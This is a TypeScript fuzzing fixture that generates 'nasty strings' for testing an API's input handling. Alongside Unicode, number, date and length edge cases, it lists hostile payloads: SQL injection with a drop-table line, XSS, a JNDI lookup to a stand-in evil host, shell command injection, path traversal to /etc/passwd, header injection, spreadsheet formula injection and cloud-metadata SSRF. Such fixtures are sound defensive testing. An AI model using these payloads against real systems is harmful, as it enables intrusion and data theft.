/** One value that is put into every field and parameter. */
export interface Nasty {
  family: string;
  /** As a path or query parameter, or as a whole body. */
  bytes: Buffer;
  /** As a value in a JSON body: JSON, or something that looks like it. */
  json: Buffer;
}

/** Separated by `¦`. */
const texts: Record<string, string> = {
  sql: `'¦''¦' or '1'='1¦'; drop table orders; --¦' union select null--¦'||pg_sleep(5)--¦$$;select 1;$$¦\\'; select 1; --¦/**/¦--`,
  html: `<script>alert(1)</script>¦<img src=x onerror=alert(1)>¦"><svg onload=alert(1)>¦'><b>x¦&lt;b&gt;¦&amp;¦&#0;¦<!--¦-->¦<![CDATA[`,
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a template of another language
  template: '{{7*7}}¦${7*7}¦#{7*7}¦<%= 7*7 %>¦{{constructor.constructor("return 1")()}}¦${jndi:ldap://evil.test/a}',
  format: '%s¦%n¦%d%d%d¦%1$s¦%%¦%99999999d¦{:>99999999}¦\\0¦\\u0000',
  shell: '`id`¦$(id)¦; id¦| id¦&& id¦> /tmp/x¦!!¦~¦*¦-rf¦--help',
  path: '.¦..¦../¦../../../../../../etc/passwd¦..\\..\\windows\\win.ini¦..%2f..%2fetc%2fpasswd¦%252e%252e%252f¦..%c0%af¦/etc/passwd¦//x¦a/b',
  lines:
    '\r\n¦\n¦\r¦Ada\r\nBcc: everybody@evil.test¦a\r\nSet-Cookie: session=1¦%0d%0aSet-Cookie:a=b¦\u0085Bcc: x¦\u2028Bcc: x¦a\tb',
  sheet: `=1+1¦+1+1¦-1+1¦@SUM(1)¦=cmd|'/C calc'!A0¦=HYPERLINK("https://evil.test")¦\t=1`,
  address: 'https://evil.test¦http://169.254.169.254/latest/meta-data¦http://[::1]/¦//evil.test¦mailto:a@evil.test',
  word: 'null¦undefined¦true¦NaN¦Infinity¦[object Object]¦{}¦[]¦constructor¦__proto__¦toString¦Delivered',
  number: '0¦-0¦+0¦01¦-1¦1000.0¦1000.5¦1e3¦1e400¦0x3e8¦1_000¦9007199254740993¦1 ¦١٢٣¦²',
  date: '2026-02-30¦0000-00-00¦9999-12-31T23:59:60Z¦-000001-01-01¦+275760-09-13T00:00:00Z¦24:00:00¦P1D',
  id: 'ord_¦gift_00000000000000000000000000¦ord_8zzzzzzzzzzzzzzzzzzzzzzzzz¦ORD_01K0FXW4MZE6HV3TQX4D5S8R2N¦Bearer¦00000000-0000-0000-0000-000000000000',
  email: `A@EXAMPLE.COM¦o'brien@example.org¦.a@example.com¦a..b@example.com¦a@example¦a@-example.com¦a@[IPv6:::1]¦a\\b@example.com¦a@b@example.com¦é@example.com¦a@exämple.com¦<a@example.com>`,
  phone:
    '+1 (202) 555-0123¦+44 (0)20 7183-8750¦+123456¦+1234567890123456¦+0123456789¦12025550123¦++12025550123¦+1 202 555 0123 ',
  json: '{"a":1,"a":2}¦[1,2,]¦{a:1}¦// x¦[[[[[[[[]]]]]]]]¦{"":""}¦[null]¦"\\ud800"¦1 2¦[""]¦-1¦1e999¦{"__proto__":{"amount":1000}}',
  emoji: '😀¦👨‍👩‍👧‍👦¦🏴󠁧󠁢󠁥󠁮󠁧󠁿¦🇦¦1️⃣¦‍¦💩',
  forms: 'é¦e\u0301¦Å¦ﬁ¦㍿¦ſ¦ß¦İ¦ı¦ς¦ǆ¦ﷺ¦аdmin¦Ａｄａ¦＜script＞¦𝒜𝒹𝒶¦\u202eadA¦לُلُصّ¦冗',
};

/** Code points that break ordinary text, and halves of surrogate pairs. */
const tricky = [
  ...Array.from({ length: 0x20 }, (_, code) => code),
  ...[0x7f, 0x80, 0x85, 0x9b, 0x9f, 0xa0, 0xad, 0x34f, 0x61c, 0x115f, 0x1680, 0x180e, 0x200b, 0x200d, 0x200e, 0x2028],
  ...[0x2029, 0x202e, 0x2060, 0x2066, 0x3000, 0x3164, 0xd800, 0xdbff, 0xdc00, 0xdfff, 0xe000, 0xfdd0, 0xfe0f, 0xfeff],
  ...[0xfffd, 0xfffe, 0xffff, 0x1ffff, 0xe0001, 0xe0100, 0x10ffff, 0x0300, 0x0489, 0x20dd],
];

/** Lengths around the limits of names, addresses, keys and headers. */
const lengths = [2, 99, 100, 101, 199, 200, 201, 253, 254, 255, 256, 257, 4_096, 15_000];

/** In hexadecimal: overlong, cut off, out of range, halves of pairs, and bytes that UTF-8 does not have. */
const notUtf8 =
  '80 bf ff fe c0 c080 c0af e08080 f0808080 fc8480808080 c2 e282 f09f98 eda080 edbfbf eda0bdedb880 f4908080 c328 e228a1 e9';

const ofText = (family: string, text: string): Nasty => ({
  family,
  // Half of a pair has no UTF-8. These are the bytes that careless software writes.
  bytes: Buffer.concat([...text].map((one) => (/^\p{Cs}$/u.test(one) ? halfOfPair(one) : Buffer.from(one)))),
  json: Buffer.from(JSON.stringify(text)),
});

function halfOfPair(one: string): Buffer {
  const unit = one.charCodeAt(0);
  return Buffer.from([0xed, 0x80 | ((unit >> 6) & 0x3f), 0x80 | (unit & 0x3f)]);
}

const listed = Object.entries(texts).flatMap(([family, all]) => all.split('¦').map((text) => [family, text] as const));

export const nastyStrings: readonly Nasty[] = [
  ...['', ...listed.map(([, text]) => text)].map((text) => ofText('text', text)),
  ...listed
    .filter(([family]) => family === 'json' || family === 'number')
    .map(([family, text]) => ({ family: `bare ${family}`, bytes: Buffer.from(text), json: Buffer.from(text) })),
  ...tricky.flatMap((code) =>
    [String.fromCodePoint(code), `A${String.fromCodePoint(code)}da`].map((text) => ofText('character', text)),
  ),
  ...['a', 'é', '😀', '\u0301'].flatMap((one) => lengths.map((length) => ofText('length', one.repeat(length)))),
  ...notUtf8.split(' ').map((hex) => {
    const bytes = Buffer.concat([Buffer.from('A'), Buffer.from(hex, 'hex'), Buffer.from('da')]);
    return { family: 'not UTF-8', bytes, json: Buffer.concat([Buffer.from('"'), bytes, Buffer.from('"')]) };
  }),
];
